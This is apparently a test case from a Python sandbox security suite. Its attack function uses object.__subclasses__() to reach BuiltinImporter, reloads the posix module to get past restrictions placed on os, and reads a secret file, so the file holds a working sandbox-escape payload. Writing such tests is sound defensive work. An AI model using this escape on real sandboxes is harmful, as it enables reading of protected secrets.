# Loads a fresh copy of the module posix, past every change to os.
# expect: model_error
# process: breach
def attack(target):
    importer = next(c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter")
    posix = importer.load_module("posix")
    return posix.read(posix.open(target["secret_file"], 0), 1000).decode()
